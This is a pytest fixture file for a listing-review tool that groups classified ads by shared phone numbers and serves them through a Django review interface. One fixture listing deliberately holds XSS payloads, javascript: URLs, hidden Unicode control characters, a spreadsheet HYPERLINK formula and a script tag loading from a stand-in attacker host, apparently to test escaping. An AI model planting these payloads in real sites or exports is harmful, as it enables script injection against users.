"""A small case that went through the real import and run, and people who may look at it."""

from __future__ import annotations

import io
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from painted_engine import painted

from features.picture_text.engines import ENGINES, EngineEntry
from leadline.app.main import main
from leadline.core.casefile import CaseFile, open_case

PASSWORD = "five quiet otters"
PURPOSE = "test of the review room"

WAREHOUSE = (
    "We are looking for packers in {place}. Transport and accommodation provided, no experience needed, "
    "we help with documents and settling in.\nDeductions for the room apply. Write to us on WhatsApp: {phone}"
)
PHONES = ("+44 7700 900123", "0044 77oo 9oo one-two-three", "+44 (7700) 9 0 0 1 2 3", "+44-7700-900-123")
PLACES = ("Leeds", "Hull", "Bristol", "Leeds")

HOSTILE = {
    "id": "hostile",
    "title": "<script>document.title='owned';alert(1)</script> \"x\" onmouseover='alert(2)'",
    "body": (
        "Kitchen help \u202eevil\u202c wanted, pay\u200b daily. <img src=x onerror=alert(3)> {{ 7|add:7 }} "
        "<a href='javascript:alert(4)'>call</a> +44 7700 900456 ]]> </textarea></form>"
    ),
    "url": "javascript:alert(5)//board.example.org/",
    "place": "<b>Leeds</b>",
    "country": "GB",
    "price": '=HYPERLINK("http://evil.example.org","x")',
    "contacts": ["+44 7700 900456", "'><script src=//evil.example.org></script>"],
    "posted_at": "2026-03-09T08:00:00Z",
}


#: A picture with a contact in it, and with what must stay text.
SAID = painted("Ring 07700", "900123 \u202etonight", "<img src=x onerror=alert(9)>", size=(320, 200), seed=11)


def picture() -> bytes:
    """A picture with enough in it to hash."""
    from PIL import Image, ImageDraw

    image = Image.radial_gradient("L").resize((240, 180)).convert("RGB")
    draw = ImageDraw.Draw(image)
    draw.rectangle((30, 40, 120, 90), fill=(180, 60, 40))
    draw.ellipse((140, 60, 220, 160), fill=(30, 90, 160))
    stream = io.BytesIO()
    image.save(stream, "JPEG", quality=90)
    return stream.getvalue()


def listings() -> list[dict[str, Any]]:
    """Two groups of listings that share a phone, one of them with a hostile listing, and some alone."""
    found: list[dict[str, Any]] = [
        {
            "id": f"w{number}", "title": f"Packers wanted in {place}", "place": place, "country": "GB",
            "url": f"https://board.example.org/w{number}?a=1&b=2", "category": "jobs", "price": "£450 a week",
            "body": WAREHOUSE.format(place=place, phone=phone), "posted_at": f"2026-03-0{number + 1}T10:00:00Z",
        }
        for number, (place, phone) in enumerate(zip(PLACES, PHONES, strict=True))
    ]  # fmt: skip
    found.append(HOSTILE)
    found.append(
        {
            "id": "kitchen", "title": "Kitchen help", "body": "Kitchen help wanted. Call 07700 900456 after six.",
            "place": "York", "country": "GB", "posted_at": "2026-01-05T10:00:00Z",
        }
    )  # fmt: skip
    found += [
        {"id": f"alone{number}", "title": f"Bicycle number {number}", "body": text, "place": "Ely", "country": "GB"}
        for number, text in enumerate(("Red bicycle, hardly used.", "Old lamp with a green shade, collect only."))
    ]
    return [{"source": "board", **record} for record in found]


@pytest.fixture(scope="session")
def new_room(tmp_path_factory: pytest.TempPathFactory) -> Callable[[], Path]:
    """A maker of cases with people: ana (analyst), sue (supervisor), cy (cyber), dee (scientist)."""
    from leadline.core.listings import listing_id
    from leadline.core.pictures import hold_picture
    from review_ui.people import ensure_user

    def make() -> Path:
        folder = tmp_path_factory.mktemp("room") / "case"
        records = folder.parent / "listings.jsonl"
        records.write_text("".join(json.dumps(record) + "\n" for record in listings()), "utf-8")
        options = ["--case", str(folder), "--purpose", "test", "--set", "workers=1", "--set", "keep_pictures=true"]
        assert main([*options, "import", str(records)]) == 0
        with open_case(folder, actor="tester", purpose="test") as case:
            shown_by = listing_id(case.db, "board/w0")
            hold_picture(case, shown_by, "https://board.example.org/p.jpg", picture(), "image/jpeg")
            shown_by = listing_id(case.db, "board/w1")
            hold_picture(case, shown_by, "https://board.example.org/said.png", SAID, "image/png")
        with pytest.MonkeyPatch.context() as patched:
            patched.setitem(ENGINES, "painted", EngineEntry("painted_engine", "PaintedEngine", "pytest", (), ""))
            assert main([*options, "--set", "picture_text=painted", "run"]) == 0
        with open_case(folder, actor="tester", purpose="test") as case:
            for name, role in (("ana", "analyst"), ("sue", "supervisor"), ("cy", "cyber"), ("dee", "scientist")):
                ensure_user(case, name, role, PASSWORD)
        return folder

    return make


@pytest.fixture(scope="session")
def room(new_room: Callable[[], Path]) -> Path:
    """Folder of the case that the tests of this folder share."""
    return new_room()


@pytest.fixture
def served(room: Path) -> Iterator[CaseFile]:
    """The case, open for looking at what was written, with Django pointed at it."""
    from review_ui.models import RefusedSignIn
    from review_ui.settings import configure

    with open_case(room, actor="tester", purpose="test") as case:
        configure(case)
        RefusedSignIn.objects.all().delete()
        yield case


@pytest.fixture
def browse(served: CaseFile) -> Callable[..., Any]:
    """A maker of Django test clients, signed in as the person named, or not signed in."""
    from django.test import Client

    def make(name: str = "", **options: Any) -> Client:
        client = Client(headers={"host": "localhost"}, **options)
        if name:
            answer = client.post("/sign-in", {"username": name, "password": PASSWORD, "purpose": PURPOSE})
            assert answer.status_code == 302, answer.content.decode()
        return client

    return make


@pytest.fixture
def lead_of(served: CaseFile) -> Callable[[str], str]:
    """The lead that holds a listing, by its name."""

    def find(name: str) -> str:
        source, _, own_id = name.partition("/")
        return served.db.execute(
            """select m.lead from lead_members m join listings g on g.id = m.listing
               where g.source = ? and g.source_id = ?""",
            [source, own_id],
        ).fetchone()[0]

    return find


@pytest.fixture
def audited(served: CaseFile) -> Callable[[], list[dict[str, Any]]]:
    """The audit entries written since the test began, oldest first."""
    start = served.db.execute("select coalesce(max(seq), 0) from audit").fetchone()[0]
    return lambda: list(served.db.query("select * from audit where seq > ? order by seq", [start]))
